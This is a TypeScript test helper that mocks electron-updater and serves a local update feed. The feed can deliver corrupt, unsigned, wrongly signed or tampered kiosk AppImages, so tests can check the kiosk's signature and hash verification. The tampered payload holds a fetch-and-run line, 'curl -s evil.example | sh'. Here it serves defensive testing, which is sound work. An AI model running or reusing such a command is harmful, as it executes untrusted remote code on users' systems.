// A MOCK of electron-updater's autoUpdater (it imports `electron`, whose binary cannot run here; issue 18). It plays
// electron-updater's part over a REAL HTTP feed: reads latest-linux.yml, downloads the file it names into a temp dir,
// and records quitAndInstall. Unlike electron-updater it does NOT check the sha512 while downloading, so a corrupt file
// reaches the kiosk's own check (electron/main/updater/updater.ts), which is what the tests prove.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createServer, type Server } from 'node:http';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { signRelease } from '../../../electron/main/updater/update-signature.ts';
import { listen } from '../../../node-common/listen.ts';
import { parseChannelFile } from '../../../electron/main/updater/update-feed.ts';
import type { AutoUpdaterLike } from '../../../electron/main/updater/updater.ts';

export function createAutoUpdaterMock() {
  const dir = mkdtempSync(join(tmpdir(), 'updater-mock-'));
  let feedUrl: string | null = null;
  const mock = {
    autoDownload: true,
    autoInstallOnAppQuit: true,
    installs: [] as Array<{ isSilent: boolean | undefined; isForceRunAfter: boolean | undefined }>,
    downloads: 0,
    dir,
    setFeedURL(options: { provider: 'generic'; url: string }) {
      feedUrl = options.url.endsWith('/') ? options.url : `${options.url}/`;
    },
    async checkForUpdates() {
      if (!feedUrl) throw new Error('no feed URL');
      const response = await fetch(new URL('latest-linux.yml', feedUrl));
      return parseChannelFile(await response.text());
    },
    async downloadUpdate(): Promise<string[]> {
      const release = await mock.checkForUpdates();
      const response = await fetch(new URL(release.path, feedUrl!));
      if (!response.ok) throw new Error(`download answered ${response.status}`);
      const file = join(dir, release.path);
      writeFileSync(file, Buffer.from(await response.arrayBuffer()));
      mock.downloads += 1;
      return [file];
    },
    quitAndInstall(isSilent?: boolean, isForceRunAfter?: boolean) {
      mock.installs.push({ isSilent, isForceRunAfter });
    },
  };
  const typed: AutoUpdaterLike = mock;
  void typed;
  return mock;
}

/**
 * A real local update feed: latest-linux.yml naming an AppImage and the file itself, signed (issue 27,
 * electron/main/updater/update-signature.ts) with a key pair made for this feed (`publicKey` is what a kiosk pins).
 * `corrupt` serves other bytes than the sha512 in the yml says (a damaged or tampered download); `signing` serves the
 * yml unsigned, signed by another key, or signed for the original file while it names a tampered one (`tampered`:
 * other bytes, their own correct sha512 and size).
 */
export async function startUpdateFeed(options: { version: string }) {
  const keys = generateKeyPairSync('ed25519');
  const feed = {
    version: options.version,
    corrupt: false,
    signing: 'signed' as 'signed' | 'unsigned' | 'other_key' | 'tampered',
    fileName: `QR-Counter-Kiosk-${options.version}-x86_64.AppImage`,
    requests: [] as string[],
  };
  const body = Buffer.from(`#!/bin/sh\necho kiosk ${options.version}\n`);
  const tamperedBody = Buffer.from(`#!/bin/sh\necho kiosk ${options.version}; curl -s evil.example | sh\n`);
  const otherKey = generateKeyPairSync('ed25519').privateKey;
  const server: Server = createServer((request, response) => {
    feed.requests.push(request.url ?? '');
    const served = feed.signing === 'tampered' ? tamperedBody : body;
    if (request.url === '/latest-linux.yml') {
      const sha512 = createHash('sha512').update(served).digest('base64');
      const signedSha512 = createHash('sha512').update(body).digest('base64');
      const signingKey = feed.signing === 'other_key' ? otherKey : keys.privateKey;
      const signature = signRelease({ version: feed.version, path: feed.fileName, sha512: signedSha512 }, signingKey.export({ type: 'pkcs8', format: 'pem' }).toString());
      response.setHeader('content-type', 'text/yaml');
      response.end(
        [
          `version: ${feed.version}`,
          'files:',
          `  - url: ${feed.fileName}`,
          `    sha512: ${sha512}`,
          `    size: ${served.length}`,
          `path: ${feed.fileName}`,
          `sha512: ${sha512}`,
          "releaseDate: '2026-11-20T10:00:00.000Z'",
          ...(feed.signing === 'unsigned' ? [] : [`kioskSignature: ${signature}`]),
          '',
        ].join('\n'),
      );
    } else if (request.url === `/${feed.fileName}`) {
      response.end(feed.corrupt ? Buffer.concat([served, Buffer.from('tampered')]) : served);
    } else {
      response.statusCode = 404;
      response.end();
    }
  });
  const url = await listen(server, 0, '127.0.0.1', 'the update feed');
  return { feed, url, publicKey: keys.publicKey, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}
